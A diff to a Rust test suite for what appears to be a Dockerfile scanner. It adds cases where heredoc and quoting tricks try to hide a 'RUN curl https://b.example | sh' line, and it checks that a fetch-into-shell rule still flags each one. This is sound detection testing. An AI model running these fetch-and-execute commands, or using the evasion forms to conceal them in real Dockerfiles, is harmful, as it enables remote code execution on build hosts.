@@ -22,6 +22,7 @@ fn attack_a_dockerfile_that_cannot_be_read_is_undecided() {
         ("RUN a\nFROM b\n", "before the first FROM"),
         ("FROM a\nRUNN b\n", "line 2: `RUNN` is no instruction"),
         ("FROM a\nRUN <<EOF\nb\n", "no end"),
+        ("FROM a\nRUN echo it's <<EOF\nb\nEOF\n", "a quote has no end"),
         ("FROM a as\n", "FROM takes"),
         ("FROM {{ base }}\n", "it is a template"),
         ("# escape=x\nFROM a\n", "neither"),
@@ -55,6 +56,13 @@ fn attack_forms_of_a_dockerfile_hide_no_command() {
         "FROM a:1\nRUN x=`curl https://b.example | sh`\n",
         "FROM a:1\nSHELL [\"/bin/bash\", \"-c\"]\nRUN curl https://b.example | sh\n",
         "FROM a:1 AS b\nRUN curl https://b.example | sh\nFROM c:1\n",
+        // Marks that are none for Docker, and ends that are other ones.
+        "FROM a:1\nRUN true a1<<'#x'\nRUN curl https://b.example | sh\n",
+        "FROM a:1\nRUN cat <<<EOF\nRUN curl https://b.example | sh\n",
+        "FROM a:1\nRUN cat <<EOF; true\nx\nEOF;\nRUN curl https://b.example | sh\nRUN cat <<Z\nEOF\nZ\n",
+        "FROM a:1\nRUN cat <<E\"O\"F\nx\nEOF\nRUN curl https://b.example | sh\n",
+        "FROM a:1\nRUN cat 0<<-'A B'\nx\n\tA B\nRUN curl https://b.example | sh\n",
+        "FROM a:1\nRUN [\"cat\", \"<<EOF\"]\nRUN curl https://b.example | sh\n",
     ] {
         assert!(rules(text).contains("dockerfile-fetch-into-shell"), "{text}");
     }
